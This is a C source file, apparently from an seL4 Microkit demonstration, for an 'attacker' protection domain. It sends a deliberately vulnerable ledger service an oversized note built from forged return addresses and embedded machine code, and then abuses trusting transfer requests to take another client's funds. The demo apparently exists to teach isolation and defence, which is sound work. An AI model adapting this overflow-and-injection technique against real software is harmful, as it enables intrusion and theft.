/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Task 5, the attacker: a client of vulnerable_pd that has nothing but its
 * channel and its post page.  Woken by its accomplice, the client, it first
 * sends the exploit; woken again, it sends what any client may send.
 */
#include <microkit.h>

#include "attack.h"
#include "ledger.h"

enum { CHANNEL_VULNERABLE = 1, CHANNEL_CLIENT = 2 };

/* The exploit as the linker made it: an ELF file with one segment. */
__asm__(".section .rodata\n"
        ".balign 8\n"
        "payload:\n"
        "    .incbin \"payload.elf\"\n"
        ".text\n");

extern const seL4_Uint8 payload[];

/* Where an ELF file says where its program headers are; and what they say. */
enum { ELF_PHOFF = 0x20, ELF_P_OFFSET = 0x08, ELF_P_FILESZ = 0x20 };

static seL4_Word wakings;


static seL4_Word payload_word(seL4_Word offset)
{
    return *(const seL4_Word *)(const void *)(payload + offset);
}

/* Fills the post page with the bytes of the segment: forged return addresses, then machine code.
   Returns their number. */
static seL4_Word fill_post(void)
{
    volatile seL4_Uint8 *post = (volatile seL4_Uint8 *)POST_ATTACKER;
    seL4_Word header = payload_word(ELF_PHOFF);
    const seL4_Uint8 *from = payload + payload_word(header + ELF_P_OFFSET);
    seL4_Word bytes = payload_word(header + ELF_P_FILESZ);

    /* One `ret` at the end of each page: whether it can be executed there will be tried. */
    for (seL4_Word end = PAGE_BYTES; end <= POST_ATTACKER_BYTES; end += PAGE_BYTES) {
        *(volatile seL4_Uint32 *)(POST_ATTACKER + end - 4) = RET_INSTRUCTION;
    }
    for (seL4_Word i = 0; i < bytes; i++) {
        post[i] = from[i];
    }
    return bytes;
}

static void send_exploit(void)
{
    seL4_Word bytes = fill_post();

    microkit_dbg_puts("attacker: sends a note of far more than 64 bytes: 64 copies of a forged\n"
                      "attacker: return address, then machine code\n");
    microkit_mr_set(0, bytes);
    (void)microkit_ppcall(CHANNEL_VULNERABLE, microkit_msginfo_new(LEDGER_NOTE, 1));
}

static seL4_Word transfer(seL4_Word from, seL4_Word to, seL4_Word amount)
{
    microkit_mr_set(0, from);
    microkit_mr_set(1, to);
    microkit_mr_set(2, amount);
    return microkit_msginfo_get_label(
        microkit_ppcall(CHANNEL_VULNERABLE, microkit_msginfo_new(LEDGER_TRANSFER, 3)));
}

static seL4_Word transfer_own(seL4_Word to, seL4_Word amount)
{
    microkit_mr_set(0, to);
    microkit_mr_set(1, amount);
    return microkit_msginfo_get_label(
        microkit_ppcall(CHANNEL_VULNERABLE, microkit_msginfo_new(LEDGER_TRANSFER_OWN, 2)));
}

static void say(const char *what, seL4_Word label)
{
    microkit_dbg_puts("attacker: ");
    microkit_dbg_puts(what);
    microkit_dbg_puts(label == LEDGER_OK ? ": done\n" : ": refused\n");
}

/* No overflow, no trick: requests that the interface has. */
static void send_requests(void)
{
    say("900 to me, by the request where the badge says whose",
        transfer_own(LEDGER_ATTACKER, 900));
    say("900 to me from the client, by the one that believes me",
        transfer(LEDGER_CLIENT, LEDGER_ATTACKER, 900));
    say("900 more, which the client does not have",
        transfer(LEDGER_CLIENT, LEDGER_ATTACKER, 900));
    say("1 from account 99", transfer(99, LEDGER_ATTACKER, 1));
}

void init(void)
{
}

void notified(microkit_channel ch)
{
    if (ch != CHANNEL_CLIENT) {
        return;
    }
    wakings++;
    if (wakings == 1) {
        send_exploit();
    } else {
        send_requests();
        microkit_notify(CHANNEL_CLIENT);
    }
}
